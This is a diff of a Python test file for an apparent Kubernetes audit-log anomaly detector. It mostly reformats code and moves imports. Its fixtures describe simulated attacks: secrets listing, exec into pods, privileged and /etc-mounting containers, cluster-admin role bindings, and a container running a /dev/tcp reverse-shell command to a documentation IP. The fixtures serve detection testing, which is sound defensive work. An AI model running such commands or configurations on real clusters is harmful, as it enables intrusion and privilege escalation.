@@ -12,19 +12,22 @@ import pytest
 
 from rtml import features
 from rtml.captures import Capture, import_capture, open_capture
-from rtml.config import Experiment
 from rtml.errors import UsageError
+from rtml.experiment.config import Experiment
 from rtml.features.api_calls import calls_of
-from rtml.findings.anomalous import call_types, explain_calls
-from rtml.scoring.scored import score
-from rtml.scoring.training import train
+from rtml.models.explaining.anomalous import call_types, explain_calls
+from rtml.models.scoring import score
+from rtml.models.training import train
 
 BEGIN = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
 LEARNT = 300
 """Minutes of ordinary requests."""
 
-ALICE: dict[str, Any] = {"user": {"username": "alice"}, "userAgent": "kubectl/v1.30 (linux/amd64)",
-                         "sourceIPs": ["192.0.2.1"]}  # fmt: skip
+ALICE: dict[str, Any] = {
+    "user": {"username": "alice"},
+    "userAgent": "kubectl/v1.30 (linux/amd64)",
+    "sourceIPs": ["192.0.2.1"],
+}
 THIEF: dict[str, Any] = {**ALICE, "userAgent": "curl/8.5", "sourceIPs": ["203.0.113.66"]}
 
 
@@ -32,33 +35,50 @@ def request(number: int, minute: float, verb: str, what: str, **more: Any) -> di
     at = (BEGIN + dt.timedelta(minutes=minute)).isoformat().replace("+00:00", "Z")
     resource, _, part = what.partition("/")
     return {
-        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": f"r{number}",
-        "stage": "ResponseComplete", "verb": verb, "responseStatus": {"code": 200},
-        "objectRef": {"resource": resource, "namespace": "web", "name": "x",
-                      **({"subresource": part} if part else {})},
-        "requestReceivedTimestamp": at, **ALICE, **more,
-    }  # fmt: skip
+        "kind": "Event",
+        "apiVersion": "audit.k8s.io/v1",
+        "auditID": f"r{number}",
+        "stage": "ResponseComplete",
+        "verb": verb,
+        "responseStatus": {"code": 200},
+        "objectRef": {
+            "resource": resource,
+            "namespace": "web",
+            "name": "x",
+            **({"subresource": part} if part else {}),
+        },
+        "requestReceivedTimestamp": at,
+        **ALICE,
+        **more,
+    }
 
 
 def ordinary() -> list[dict[str, Any]]:
     """Alice looks at pods and config maps, a controller makes pods of one image."""
     pod = {"kind": "Pod", "spec": {"containers": [{"image": "shop:1"}]}}
-    controller = {"user": {"username": "system:controller"}, "userAgent": "controller/v1",
-                  "sourceIPs": ["10.0.0.1"], "requestObject": pod}  # fmt: skip
+    controller = {
+        "user": {"username": "system:controller"},
+        "userAgent": "controller/v1",
+        "sourceIPs": ["10.0.0.1"],
+        "requestObject": pod,
+    }
     calls = [request(i, i, "get", ("pods", "configmaps")[i % 2]) for i in range(LEARNT)]
-    return calls + [
-        request(1000 + i, i + 0.2, "create", "pods", **controller) for i in range(0, LEARNT, 3)
-    ]
+    return calls + [request(1000 + i, i + 0.2, "create", "pods", **controller) for i in range(0, LEARNT, 3)]
 
 
 def pod_of(**container: Any) -> dict[str, Any]:
     return {"kind": "Pod", "spec": {"containers": [{"image": "evil:1", **container}]}}
 
 
-MOUNT = {"kind": "Pod", "spec": {"containers": [{"image": "evil"}],
-                                 "volumes": [{"hostPath": {"path": "/etc"}}]}}  # fmt: skip
-REVIEW = {"kind": "SelfSubjectAccessReview", "status": {"allowed": True},
-          "spec": {"resourceAttributes": {"verb": "*", "resource": "secrets"}}}  # fmt: skip
+MOUNT = {
+    "kind": "Pod",
+    "spec": {"containers": [{"image": "evil"}], "volumes": [{"hostPath": {"path": "/etc"}}]},
+}
+REVIEW = {
+    "kind": "SelfSubjectAccessReview",
+    "status": {"allowed": True},
+    "spec": {"resourceAttributes": {"verb": "*", "resource": "secrets"}},
+}
 
 
 def binding(role: str) -> dict[str, Any]:
@@ -67,25 +87,57 @@ def binding(role: str) -> dict[str, Any]:
 
 EIGHT: list[tuple[str, float, tuple[str, str], Any]] = [
     ("CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed", 5, ("list", "secrets"), None),
-    ("Discovery:Kubernetes/AnomalousBehavior.PermissionChecked", 2,
-     ("create", "selfsubjectaccessreviews"), REVIEW),
+    (
+        "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
+        2,
+        ("create", "selfsubjectaccessreviews"),
+        REVIEW,
+    ),
     ("Execution:Kubernetes/AnomalousBehavior.ExecInPod", 5, ("create", "pods/exec"), None),
     ("Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed", 2, ("create", "pods"), pod_of()),
-    ("Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed", 5, ("create", "pods"),
-     pod_of(command=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444"])),
-    ("Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed", 5, ("create", "pods"),
-     pod_of(image="kalilinux/kali-rolling")),
-    ("Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount", 8,
-     ("create", "pods"), MOUNT),
-    ("PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer", 8,
-     ("create", "pods"), pod_of(securityContext={"privileged": True})),
-    ("PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated", 2, ("create", "clusterroles"),
-     {"kind": "ClusterRole", "rules": [{"verbs": ["*"], "resources": ["*"]}]}),
-    ("PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated", 5,
-     ("create", "clusterrolebindings"), binding("view")),
-    ("PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated", 8,
-     ("create", "clusterrolebindings"), binding("cluster-admin")),
-]  # fmt: skip
+    (
+        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
+        5,
+        ("create", "pods"),
+        pod_of(command=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444"]),
+    ),
+    (
+        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
+        5,
+        ("create", "pods"),
+        pod_of(image="kalilinux/kali-rolling"),
+    ),
+    (
+        "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
+        8,
+        ("create", "pods"),
+        MOUNT,
+    ),
+    (
+        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
+        8,
+        ("create", "pods"),
+        pod_of(securityContext={"privileged": True}),
+    ),
+    (
+        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
+        2,
+        ("create", "clusterroles"),
+        {"kind": "ClusterRole", "rules": [{"verbs": ["*"], "resources": ["*"]}]},
+    ),
+    (
+        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
+        5,
+        ("create", "clusterrolebindings"),
+        binding("view"),
+    ),
+    (
+        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
+        8,
+        ("create", "clusterrolebindings"),
+        binding("cluster-admin"),
+    ),
+]
 
 
 def capture_of(folder: Path, requests: list[dict[str, Any]]) -> Capture:
